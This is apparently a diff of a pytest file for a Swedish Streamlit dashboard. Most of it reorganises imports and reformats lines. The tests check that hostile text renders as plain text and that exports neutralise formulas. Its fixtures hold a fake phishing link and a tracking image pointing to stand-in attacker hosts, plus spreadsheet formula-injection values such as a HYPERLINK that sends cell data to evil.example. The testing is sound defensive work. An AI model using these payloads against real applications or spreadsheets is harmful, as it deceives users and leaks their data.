@@ -24,20 +24,21 @@ from pathlib import Path
 import duckdb
 import pandas as pd
 import pytest
+from conftest import MINI, REPO, write_dataset
 from openpyxl import load_workbook
 
-from malbild.build import BuildError, StoreError, build, clean_litter, ensure_database, inspect_database, main
-from malbild.exports import describe_filters, to_csv, to_xlsx
+from malbild.data.build import BuildError, StoreError, build, clean_litter, ensure_database, main
+from malbild.data.queries import run_query
+from malbild.export.tables import to_csv, to_xlsx
 from malbild.paths import DATA_DIR
-from malbild.queries import run_query
-from malbild.safe import cell, md, plotly_text
-from conftest import MINI, REPO, write_dataset
+from malbild.texts.safe import cell, md, plotly_text
+from malbild.views.projects import describe_filters
 
 # The repro strings of the issue.
 PHISHING_Q = (
     "[Sessionen har gått ut – logga in här](https://evil.example/login) ![t](http://attacker/q.png) :red[**VARNING**]"
 )
-HOSTILE = '[klick](https://evil.example/x) ![t](http://attacker/q.png) :red[**VARNING**] <b>fet</b>'
+HOSTILE = "[klick](https://evil.example/x) ![t](http://attacker/q.png) :red[**VARNING**] <b>fet</b>"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")', "=1+2", "@SUM(A1)", "+1+2", "-1+2", "\t=1", "\r=1"]
 DAY = date(2019, 3, 14)
 
@@ -137,8 +138,11 @@ def test_md_shows_the_repro_strings_as_text() -> None:
 @pytest.fixture(scope="module")
 def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The bundled data with hostile names: goal 5's name, its largest project, and owners, built into a database."""
-    folder = Path(shutil.copytree(DATA_DIR, tmp_path_factory.mktemp("hostile") / "data",
-                                  ignore=shutil.ignore_patterns("*.duckdb*")))
+    folder = Path(
+        shutil.copytree(
+            DATA_DIR, tmp_path_factory.mktemp("hostile") / "data", ignore=shutil.ignore_patterns("*.duckdb*")
+        )
+    )
     with open(folder / "project_grant.csv", encoding="utf-8", newline="") as handle:
         rows = list(csv.reader(handle))
     header, body = rows[0], rows[1:]
@@ -147,7 +151,7 @@ def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
     goal5[0][project] = HOSTILE  # the largest: named in "Störst: …" on the goal page and the walk-through
     goal5[1][owner] = HOSTILE
     largest = max(body, key=lambda r: int(r[amount]))
-    largest[owner] = "=HYPERLINK(\"http://evil.example\",\"x\") " + HOSTILE
+    largest[owner] = '=HYPERLINK("http://evil.example","x") ' + HOSTILE
     with open(folder / "project_grant.csv", "w", encoding="utf-8", newline="") as handle:
         csv.writer(handle).writerows([header, *body])
     with open(folder / "goal.csv", encoding="utf-8", newline="") as handle:
@@ -162,8 +166,11 @@ def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 def markdown_texts(at) -> list[str]:
     """Every text the page hands to Streamlit's Markdown renderer."""
-    texts = [e.value for kind in ("markdown", "caption", "title", "header", "subheader", "warning", "info", "error",
-                                  "success") for e in at.get(kind)]
+    texts = [
+        e.value
+        for kind in ("markdown", "caption", "title", "header", "subheader", "warning", "info", "error", "success")
+        for e in at.get(kind)
+    ]
     texts += [m.label for m in at.metric]
     texts += [e.label for e in at.expander]
     for table in at.get("table"):
@@ -194,16 +201,22 @@ def chart_strings(at) -> list[str]:
 
 def hostile_pages(n_steps: int) -> list[tuple[str, dict]]:
     """Every page, with the hostile goal and search text in the URL where the page reads them."""
-    pages = [("app.py", {}), ("pages/1_Goals.py", {"goal": "5"}), ("pages/2_Projects.py", {"q": PHISHING_Q}),
-             ("pages/2_Projects.py", {"goal": "5"}), ("pages/3_Personnel.py", {}), ("pages/4_Finance.py", {}),
-             ("pages/5_Sources.py", {})]
+    pages = [
+        ("app.py", {}),
+        ("pages/1_Goals.py", {"goal": "5"}),
+        ("pages/2_Projects.py", {"q": PHISHING_Q}),
+        ("pages/2_Projects.py", {"goal": "5"}),
+        ("pages/3_Personnel.py", {}),
+        ("pages/4_Finance.py", {}),
+        ("pages/5_Sources.py", {}),
+    ]
     return pages + [("pages/6_Walkthrough.py", {"step": str(i)}) for i in range(1, n_steps + 1)]
 
 
 def test_hostile_strings_render_as_text_on_every_page(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     from streamlit.testing.v1 import AppTest
 
-    from malbild.walkthrough_steps import walkthrough_steps
+    from malbild.views.walkthrough import walkthrough_steps
 
     monkeypatch.setenv("DASHBOARD_DB", str(hostile_db))
     monkeypatch.setenv("DASHBOARD_DATA", str(hostile_db.parent / "data"))  # else the start-up check rebuilds it
@@ -287,11 +300,13 @@ con.close()
 def test_a_locked_database_is_told_from_corruption_and_never_replaced(mini_data: Path, tmp_path: Path) -> None:
     db = tmp_path / "dashboard.duckdb"
     build(db, mini_data)
-    (mini_data / "goal.csv").write_text((mini_data / "goal.csv").read_text(encoding="utf-8") + "3,Mål tre,Goal three,4\n",
-                                        encoding="utf-8")  # the data changed: the start-up check would rebuild
+    (mini_data / "goal.csv").write_text(
+        (mini_data / "goal.csv").read_text(encoding="utf-8") + "3,Mål tre,Goal three,4\n", encoding="utf-8"
+    )  # the data changed: the start-up check would rebuild
     inode = db.stat().st_ino
-    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                              text=True)
+    holder = subprocess.Popen(
+        [sys.executable, "-c", HOLDER, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
     try:
         assert holder.stdout.readline().strip() == "holding"
         with pytest.raises(StoreError) as caught:
@@ -355,13 +370,16 @@ def test_unwritable_folder_keeps_serving_the_last_good_database(data_copy: Path,
     db = tmp_path / "db" / "dashboard.duckdb"
     db.parent.mkdir()
     build(db, data_copy)
-    (data_copy / "hr_metric.csv").write_text((data_copy / "hr_metric.csv").read_text(encoding="utf-8") + "\n",
-                                             encoding="utf-8")  # same rows, changed file: the checksum differs
+    (data_copy / "hr_metric.csv").write_text(
+        (data_copy / "hr_metric.csv").read_text(encoding="utf-8") + "\n", encoding="utf-8"
+    )  # same rows, changed file: the checksum differs
 
     def refuse(*args, **kwargs):
         raise PermissionError(13, "Permission denied", str(db.parent))
 
-    monkeypatch.setattr("malbild.build.tempfile.mkstemp", refuse)  # what a read-only folder does (tests run as root)
+    monkeypatch.setattr(
+        "malbild.data.build.tempfile.mkstemp", refuse
+    )  # what a read-only folder does (tests run as root)
     at = open_app(monkeypatch, db, data_copy)
     assert_plain(at, db)
     assert any("databasens mapp går inte att skriva i" in w.value for w in at.warning)
@@ -401,9 +419,10 @@ def test_error_details_are_off_in_production() -> None:
 # 5. Commands honour $DASHBOARD_DATA ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("module", ["malbild.deck", "malbild.snapshot"])
-def test_deck_and_snapshot_build_from_the_configured_data(module: str, mini_data: Path, tmp_path: Path,
-                                                           monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.mark.parametrize("module", ["malbild.export.deck", "malbild.export.snapshot"])
+def test_deck_and_snapshot_build_from_the_configured_data(
+    module: str, mini_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import importlib
 
     mod = importlib.import_module(module)
@@ -488,7 +507,9 @@ def test_loader_trims_spaces_and_says_so(tmp_path: Path, capsys) -> None:
     assert "warning: project_grant.csv: line 2, column amount_sek: spaces around '655000' were removed" in out
     con = duckdb.connect(str(db), read_only=True)
     assert con.execute("SELECT owner, amount_sek FROM src.project_grant ORDER BY amount_sek DESC").fetchone() == (
-        "Umeå kommun", 655000)
+        "Umeå kommun",
+        655000,
+    )
     con.close()
 
 
@@ -498,8 +519,9 @@ def test_loader_trims_spaces_and_says_so(tmp_path: Path, capsys) -> None:
 def test_search_wildcards_match_literally(con) -> None:
     def names(text: str) -> list[str]:
         """Project names matching a search text."""
-        return run_query(con, "filtered_project_grants", goal_ids=[], owners=[], min_amount=None, max_amount=None,
-                         text=text)["project"].tolist()
+        return run_query(
+            con, "filtered_project_grants", goal_ids=[], owners=[], min_amount=None, max_amount=None, text=text
+        )["project"].tolist()
 
     assert names("%") == [] and names("_") == [] and names("\\") == []
     assert len(names("förstudie")) >= 1 and all("förstudie" in n.lower() for n in names("förstudie"))
@@ -572,7 +594,9 @@ def test_the_build_removes_litter_of_a_killed_build(mini_data: Path, tmp_path: P
         path.write_bytes(b"x")
     build(db, mini_data)
     assert not any(p.exists() for p in litter) and running.exists()
-    assert clean_litter(db) == [] and sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [running.name]
+    assert clean_litter(db) == [] and sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [
+        running.name
+    ]
 
 
 def test_clearing_the_filters_logs_no_session_state_warning(open_page, monkeypatch, caplog) -> None:
